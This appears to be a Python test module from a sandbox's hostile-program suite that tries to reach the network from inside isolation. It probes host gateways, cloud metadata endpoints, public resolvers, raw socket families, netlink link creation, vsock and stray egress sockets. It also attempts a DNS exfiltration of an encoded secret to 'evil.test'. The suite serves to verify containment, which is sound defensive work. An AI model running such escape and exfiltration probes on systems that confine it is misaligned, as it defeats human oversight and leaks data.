"""Tries to reach the network without a door: host services, gateways, metadata, raw and odd sockets."""

import glob
import os
import socket
import struct
import time
from collections.abc import Callable

from control_plane.sandboxes.hostile.programs.loot import Canaries, Loot

NETLINK_ROUTE = 0
FAMILIES = {
    "AF_AX25": 3, "AF_IPX": 4, "AF_X25": 9, "AF_KEY": 15, "AF_PACKET": 17, "AF_RDS": 21, "AF_LLC": 26, "AF_IB": 27,
    "AF_CAN": 29, "AF_TIPC": 30, "AF_BLUETOOTH": 31, "AF_ALG": 38, "AF_NFC": 39, "AF_VSOCK": 40, "AF_KCM": 41,
    "AF_QIPCRTR": 42, "AF_SMC": 43, "AF_XDP": 44, "AF_MCTP": 45,
}  # fmt: skip


def connects(host: str, port: int, family: int = socket.AF_INET) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(1)
        one.connect((host, port))
    return "connected"


def sends(host: str, port: int, family: int = socket.AF_INET) -> str:
    """A datagram that left is not yet gained: the outside looks whether it arrived."""
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.sendto(b"hostile", (host, port))
    return ""


def _each(loot: Loot, hosts: list[str], ports: list[int], how: Callable[..., object]) -> None:
    for host in hosts:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        for port in ports:
            what = how.__name__ + " " + host + " " + str(port)
            loot.attempt(what, how, host, port, family)


def host_loopback(canaries: Canaries) -> Loot:
    loot = Loot()
    hosts = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "localhost", "::1", "::ffff:127.0.0.1"]
    _each(loot, hosts, canaries["tcp"], connects)
    _each(loot, hosts, canaries["udp"], sends)
    return loot


def host_addresses(canaries: Canaries) -> Loot:
    loot = Loot()
    _each(loot, canaries["addresses"], canaries["tcp"], connects)
    _each(loot, canaries["addresses"], canaries["udp"], sends)
    if loot.on_host(canaries, "net"):
        return loot
    gateways = ["172.17.0.1", "172.18.0.1", "10.0.2.2", "192.168.65.2", "192.168.127.254", *_gateways()]
    _each(loot, gateways, canaries["tcp"], connects)
    _each(loot, gateways, canaries["udp"], sends)
    for name in ("host.docker.internal", "host.containers.internal", "gateway.docker.internal"):
        loot.attempt("name " + name, socket.gethostbyname, name)
    return loot


def _gateways() -> list[str]:
    with open("/proc/net/route") as table:
        rows = [line.split() for line in table][1:]
    return [socket.inet_ntoa(struct.pack("<I", int(row[2], 16))) for row in rows]


def metadata_address(canaries: Canaries) -> Loot:
    loot = Loot()
    if not loot.on_host(canaries, "net"):
        _each(loot, ["169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192"], [80], connects)
        _each(loot, ["fd00:ec2::254", "fe80::a9fe:a9fe"], [80], connects)
        loot.attempt("its name", socket.gethostbyname, "metadata.google.internal")
    return loot


def outside_addresses(canaries: Canaries) -> Loot:
    loot = Loot()
    if not loot.on_host(canaries, "net"):
        hosts = ["1.1.1.1", "8.8.8.8", "2606:4700:4700::1111", "224.0.0.251", "255.255.255.255"]
        _each(loot, hosts, [53, 443], connects)
        _each(loot, hosts, [53], _answered)
    return loot


def _answered(host: str, port: int, family: int) -> bytes:
    """Ask a resolver for the root servers and wait for its answer."""
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.settimeout(0.5)
        one.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\0\0\2\0\1", (host, port))
        return one.recv(512)


def names(canaries: Canaries) -> Loot:
    """Without a door there is nobody to ask: a secret in a name goes nowhere."""
    loot = Loot()
    if not loot.on_host(canaries, "net"):
        for name in ("c2VjcmV0.evil.test", "example.com", "a" * 60 + ".tunnel.test"):
            loot.attempt("resolve " + name[:30], socket.getaddrinfo, name, 80)
        for server in ("127.0.0.53", "127.0.0.11", "127.0.0.1"):
            loot.attempt("ask " + server, _answered, server, 53, socket.AF_INET)
    return loot


def interfaces(canaries: Canaries) -> Loot:
    """Nothing but loopback, and nothing can be added."""
    loot = Loot()
    if loot.on_host(canaries, "net"):
        return loot
    with open("/proc/net/dev") as table:
        found = [line.split(":")[0].strip() for line in table if ":" in line]
    loot.attempt("interfaces", list, [name for name in found if not _idle(name)])
    loot.attempt("gateways", list, [one for one in _gateways() if one != "0.0.0.0"])
    for kind in (b"dummy", b"veth", b"bridge", b"wireguard"):
        loot.attempt("add " + kind.decode(), _link_added, kind)
    return loot


def _idle(name: str) -> bool:
    """Loopback, and the tunnels some kernels put in each namespace and leave down."""
    with open("/sys/class/net/" + name + "/operstate" if os.path.isdir("/sys/class/net") else os.devnull) as state:
        return name == "lo" or (name.endswith("0") and state.read().strip() in ("down", ""))


def _link_added(kind: bytes) -> str:
    """Ask the kernel by netlink for a new interface; it answers with an error message, 0 when it was done."""
    name = _attribute(1, kind + b"\0")
    body = struct.pack("<BxHiII", 0, 0, 0, 0, 0) + _attribute(18, name)
    message = struct.pack("<IHHII", 16 + len(body), 16, 0x605, 1, 0) + body
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_ROUTE) as one:
        one.settimeout(1)
        one.sendto(message, (0, 0))
        answer = one.recv(4096)
    code = struct.unpack_from("<i", answer, 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))
    return "added"


def _attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("<HH", 4 + len(value), kind) + value + b"\0" * (-len(value) % 4)


def raw_sockets(canaries: Canaries) -> Loot:
    loot = Loot()
    for name, family in FAMILIES.items():
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            loot.attempt(name + " " + str(int(kind)), _made, family, kind, 0)
    loot.attempt("AF_PACKET all", _made, 17, socket.SOCK_RAW, 768)
    for protocol in (1, 6, 17, 255):
        loot.attempt("raw IP " + str(protocol), _made, socket.AF_INET, socket.SOCK_RAW, protocol)
    loot.attempt("raw IPv6", _made, socket.AF_INET6, socket.SOCK_RAW, 58)
    return loot


def _made(family: int, kind: int, protocol: int) -> str:
    with socket.socket(family, kind, protocol):
        return "made"


def vsock(canaries: Canaries) -> Loot:
    """The hypervisor's own sockets are not held by network namespaces."""
    loot = Loot()
    loot.attempt("socket", _made, 40, socket.SOCK_STREAM, 0)
    loot.attempt("/dev/vsock", os.open, "/dev/vsock", os.O_RDONLY)
    return loot


def other_doors(canaries: Canaries) -> Loot:
    loot = Loot()
    found = glob.glob("/run/egress/../*/egress.sock") + glob.glob("/run/*/*/egress.sock")
    loot.attempt("a door nobody gave", os.listdir, "/run/egress")
    for path in [*canaries["doors"], *(one for one in found if "egress/../egress" not in one)]:
        loot.attempt("door " + path, _door, path)
    return loot


def _door(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(1)
        one.connect(path)
        one.sendall(b"CONNECT localhost:1 HTTP/1.1\r\nHost: localhost:1\r\n\r\n")
        time.sleep(0.05)
    return "connected"
